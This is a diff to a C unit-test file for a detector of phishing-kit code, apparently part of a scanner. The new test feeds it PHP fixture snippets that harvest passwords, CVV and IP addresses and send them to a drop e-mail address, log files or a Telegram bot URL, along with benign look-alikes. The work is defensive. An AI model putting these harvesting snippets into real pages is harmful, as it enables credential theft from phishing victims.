@@ -277,6 +277,56 @@ static void test_real_sites_are_quiet(void **state)
 	      "$_POST['spinner'] . $_SERVER['REMOTE_ADDR']);");
 }
 
+/* phishgen round (tests/eval/phishgen.py): HTML labels, error_log() to a
+ * file and a results file rewritten whole. */
+static void test_html_labels_and_whole_file_writes(void **state)
+{
+	(void)state;
+	/* "<b>Password</b>: " before a renamed field */
+	expect("<?php $ip = $_SERVER['REMOTE_ADDR']; $m = '<b>E-mail</b>: ' . $_POST['x1'];\n"
+	       "$m .= '<b>Password</b>: ' . $_POST['x2'] . '<br>IP: ' . $ip;\n"
+	       "mail('drop@example.net', 'r', $m);",
+	       HS_SEV_CRITICAL);
+	expect("<?php $m = '<tr><td>CVV</td><td>' . $_POST['n3'] . '</td></tr>';\n"
+	       "mail('drop@example.net', 'cc', $m);",
+	       HS_SEV_HIGH);
+	/* error_log type 3 appends to the named file */
+	expect("<?php $m = sprintf(\"Pass: %s IP: %s\", $_POST['f2'], $_SERVER['REMOTE_ADDR']);\n"
+	       "error_log($m . \"\\n\", 3, 'ok.log');",
+	       HS_SEV_HIGH);
+	/* the results file read and written back with the new victim's text */
+	expect(
+	    "<?php $t = 'Pass: ' . $_POST['passwd'] . ' IP: ' . $_SERVER['REMOTE_ADDR'];\n"
+	    "$old = @file_get_contents('r/log.html'); file_put_contents('r/log.html', $old . $t);",
+	    HS_SEV_HIGH);
+	/* a victims' store of separate fields: medium */
+	expect("<?php $a = json_decode(file_get_contents('v.json'), true);\n"
+	       "$a[1]['password'] = $_POST['password']; $a[1]['ip'] = $_SERVER['REMOTE_ADDR'];\n"
+	       "file_put_contents('v.json', json_encode($a));",
+	       HS_SEV_MEDIUM);
+	/* the bot API's URL built by sprintf from a format naming it */
+	expect(
+	    "<?php $i = 'Pwd: ' . $_POST['pw'] . ' IP: ' . $_SERVER['REMOTE_ADDR'];\n"
+	    "$u = sprintf('https://api.telegram.org/bot%s/sendMessage?chat_id=%s&text=%s', $t, $c, "
+	    "rawurlencode($i));\n"
+	    "$ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $u); curl_exec($ch);",
+	    HS_SEV_CRITICAL);
+	/* look-alikes: error_log to the server log (type 0), a user's settings
+	 * file without a password, a word "b" that is not a label, a config
+	 * script written by an installer */
+	quiet("<?php error_log('login failed for ' . $_POST['user'] . ' from ' . "
+	      "$_SERVER['REMOTE_ADDR']);");
+	quiet("<?php file_put_contents('prefs.json', json_encode(array('theme' => $_POST['theme'], "
+	      "'ip' => $_SERVER['REMOTE_ADDR'])));");
+	quiet("<?php mail('a@example.com', 's', '<b>Name</b>: ' . $_POST['f2'] . ' ' . "
+	      "$_SERVER['REMOTE_ADDR']);");
+	/* an order bot's sprintf URL: no credential */
+	quiet("<?php $u = sprintf('https://api.telegram.org/bot%s/sendMessage?text=%s', $t, "
+	      "urlencode($_POST['name'] . ' ' . $_SERVER['REMOTE_ADDR'])); file_get_contents($u);");
+	quiet("<?php file_put_contents('config.php', '<?php $p = ' . var_export($_POST['dbpass'], "
+	      "true) . ';');");
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -287,6 +337,7 @@ int main(void)
 	    cmocka_unit_test(test_mailer_objects),
 	    cmocka_unit_test(test_real_http_requests_are_quiet),
 	    cmocka_unit_test(test_labels_name_renamed_fields),
+	    cmocka_unit_test(test_html_labels_and_whole_file_writes),
 	};
 	int rc = cmocka_run_group_tests(tests, NULL, NULL);
 	php_result_free(&res);
